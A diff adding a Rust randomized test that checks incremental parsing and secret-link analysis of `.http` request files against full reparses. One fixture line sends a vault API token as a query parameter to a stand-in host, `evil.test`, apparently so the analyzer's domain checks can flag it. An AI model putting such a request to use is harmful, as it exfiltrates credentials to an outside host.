@@ -1,0 +1,254 @@
+//! Incremental and from-scratch analysis agree after random edits: the parse, and the
+//! findings in a context with a links file and an environment.
+//!
+//! `VAULTLINK_INCREMENTAL_EDITS` sets how many random edits the property runs (default
+//! 20,000; `scripts/incremental.sh` runs the long version).
+
+use super::*;
+use crate::syntax::env;
+use crate::text::{Splice, TextRange};
+use crate::vault::analysis::EnvSource;
+use crate::vault::links;
+
+/// Lines an `.http` file is made of, with the constructs whose state crosses lines:
+/// scripts, `{{ }}` blocks, comments, `proto < file`, bodies, variables that other
+/// requests use.
+const LINES: &[&str] = &[
+    "###",
+    "### named",
+    "#### deco",
+    "@host = api.example.test",
+    "@token = {{vault:api-token}}",
+    "@other = {{token}}",
+    "GET https://{{host}}/items",
+    "POST https://evil.test/x?k={{vault:api-token}}",
+    "GET {{base}}/x",
+    "get https://a.test",
+    "Authorization: Bearer {{vault:api-token}}",
+    "X-Secret: {{vault:not-linked}}",
+    "X-Var: {{token}}",
+    "X-Undefined: {{nowhere}}",
+    "  continued",
+    "",
+    "",
+    "{",
+    "  \"k\": \"{{vault:db-password}}\"",
+    "}",
+    "> {%",
+    "client.global.set(\"made\", 1);",
+    "%}",
+    "> {% client.global.set(\"later\", 2) %}",
+    "< {%",
+    "{{",
+    "exports.fromJs = 1",
+    "}}",
+    "/*",
+    "*/",
+    "proto < ./a.proto",
+    "option: 1",
+    "# @name req",
+    "# @name made",
+    "# @loop for item of items",
+    "# @prompt asked",
+    "// a comment",
+    "<> previous.json",
+    "< ./body.json",
+    "import ./other.http",
+    "run #req",
+    "GET https://{{made}}.example.test/{{asked}}/{{later}}",
+    "é✓ 😀",
+];
+
+const PIECES: &[&str] = &[
+    "\n",
+    "\r\n",
+    "\r",
+    "#",
+    "###",
+    "{{",
+    "}}",
+    "{%",
+    "%}",
+    "@",
+    "=",
+    " ",
+    ":",
+    "/*",
+    "*/",
+    "vault:",
+    "\n###\n",
+    "\nGET https://x.test\n",
+    "😀",
+    "é",
+];
+
+fn random_text(rng: &mut fastrand::Rng) -> String {
+    let n = rng.usize(0..60);
+    let mut out = String::new();
+    for _ in 0..n {
+        out.push_str(LINES[rng.usize(..LINES.len())]);
+        out.push_str(match rng.u8(0..10) {
+            0 => "\r\n",
+            1 => "\r",
+            _ => "\n",
+        });
+    }
+    out
+}
+
+fn char_boundary(text: &str, mut at: usize) -> usize {
+    while !text.is_char_boundary(at) {
+        at -= 1;
+    }
+    at
+}
+
+/// A random edit of `text`: a typed piece, a deleted range, a pasted line or a few.
+fn random_edit(rng: &mut fastrand::Rng, text: &str) -> (usize, usize, String) {
+    let start = char_boundary(text, rng.usize(0..=text.len()));
+    let len = match rng.u8(0..4) {
+        0 => rng.usize(0..40),
+        1 => rng.usize(0..4),
+        _ => 0,
+    };
+    let end = char_boundary(text, (start + len).min(text.len())).max(start);
+    let new = match rng.u8(0..4) {
+        0 => String::new(),
+        1 => format!("{}\n", LINES[rng.usize(..LINES.len())]),
+        _ => PIECES[rng.usize(..PIECES.len())].to_string(),
+    };
+    (start, end, new)
+}
+
+const LINKS: &str = r#"{ "secrets": {
+  "api-token": { "link": "https://kv.vault.azure.net/secrets/api-token", "allowedDomains": ["*.example.test"] },
+  "db-password": { "link": "https://kv.vault.azure.net/secrets/db-password" }
+} }"#;
+
+const ENV: &str = r#"{ "dev": { "base": "https://api.example.test" } }"#;
+
+/// Edits `text` `edits` times at random, each time comparing the incremental parse and
+/// findings with a parse and analysis of the whole new text.
+fn check_random_edits(rng: &mut fastrand::Rng, edits: usize) {
+    let links = links::parse(LINKS);
+    let env = env::parse_http_client(ENV, false);
+    let envs = [EnvSource {
+        text: ENV,
+        file: &env,
+    }];
+    let ctx = Context {
+        links: Some(&links),
+        envs: &envs,
+        env_name: None,
+    };
+    let mut text = random_text(rng);
+    let mut parsed = Parsed::parse(DocKind::Http, &text);
+    let mut findings = parsed.analyze(&text, &ctx);
+    let (mut done, mut bursts, mut reused) = (0, 0, 0);
+    while done < edits {
+        // A burst of edits before the next parse, as an editor sends keystrokes.
+        let mut new = text.clone();
+        let mut covered: Option<Splice> = None;
+        for _ in 0..rng.usize(1..4) {
+            let (start, end, piece) = random_edit(rng, &new);
+            new.replace_range(start..end, &piece);
+            let splice = Splice {
+                start,
+                old_end: end,
+                new_end: start + piece.len(),
+            };
+            covered = Some(covered.map_or(splice, |c| c.then(splice)));
+            done += 1;
+        }
+        let splice = covered.unwrap();
+        assert_eq!(new[..splice.start], text[..splice.start]);
+        assert_eq!(new[splice.new_end..], text[splice.old_end..]);
+        let (next, patch) = reparse(DocKind::Http, parsed, &text, &new, splice);
+        let fresh = Parsed::parse(DocKind::Http, &new);
+        assert_eq!(
+            format!("{next:?}"),
+            format!("{fresh:?}"),
+            "the parse after {splice:?} of {text:?} into {new:?}"
+        );
+        let expected = fresh.analyze(&new, &ctx);
+        let kept = patch.and_then(|p| reanalyse(&findings, &p, &new, &next, &ctx));
+        reused += usize::from(kept.is_some());
+        bursts += 1;
+        let got = kept.unwrap_or_else(|| next.analyze(&new, &ctx));
+        assert_eq!(
+            got, expected,
+            "the findings after {splice:?} of {text:?} into {new:?}"
+        );
+        (text, parsed, findings) = (new, next, got);
+        // Now and then a new document, so that edits meet every kind of text.
+        if rng.u8(0..50) == 0 {
+            text = random_text(rng);
+            parsed = Parsed::parse(DocKind::Http, &text);
+            findings = parsed.analyze(&text, &ctx);
+        }
+    }
+    // Most edits keep the findings outside the blocks they touch.
+    assert!(
+        reused * 2 > bursts,
+        "only {reused} of {bursts} bursts of edits kept findings"
+    );
+}
+
+#[test]
+fn random_edits_give_the_parse_and_findings_of_the_whole_text() {
+    let edits = std::env::var("VAULTLINK_INCREMENTAL_EDITS")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(20_000);
+    let seed = std::env::var("VAULTLINK_INCREMENTAL_SEED")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(13);
+    check_random_edits(&mut fastrand::Rng::with_seed(seed), edits);
+}
+
+#[test]
+fn an_edit_inside_one_block_parses_only_that_block() {
+    let text = "@host = a.example.test\n\n### one\nGET https://{{host}}/1\n\n### two\nGET https://{{host}}/2\nX: {{vault:nope}}\n\n### three\nGET https://{{host}}/3\n";
+    let at = text.find("/2").unwrap() + 2;
+    let mut new = text.to_string();
+    new.insert_str(at, "22");
+    let splice = Splice {
+        start: at,
+        old_end: at,
+        new_end: at + 2,
+    };
+    let old = Parsed::parse(DocKind::Http, text);
+    let (_, patch) = reparse(DocKind::Http, old, text, &new, splice);
+    let patch = patch.expect("an incremental parse");
+    let two = new.find("### two").unwrap();
+    let three = new.find("### three").unwrap();
+    assert_eq!(
+        patch.region,
+        Splice {
+            start: two,
+            old_end: three - 2,
+            new_end: three
+        }
+    );
+    assert!(patch.same_scope);
+    assert_eq!(
+        patch.part.requests[0].range,
+        TextRange::from_usize(two, new.find("nope}}").unwrap() + 6)
+    );
+}
+
+#[test]
+fn an_edit_to_a_variable_analyses_the_whole_file() {
+    let text = "@host = a.example.test\n\n### one\nGET https://{{host}}/1\n";
+    let mut new = text.to_string();
+    new.insert(2, 'x');
+    let splice = Splice {
+        start: 2,
+        old_end: 2,
+        new_end: 3,
+    };
+    let old = Parsed::parse(DocKind::Http, text);
+    let (_, patch) = reparse(DocKind::Http, old, text, &new, splice);
+    assert!(!patch.expect("an incremental parse").same_scope);
+}
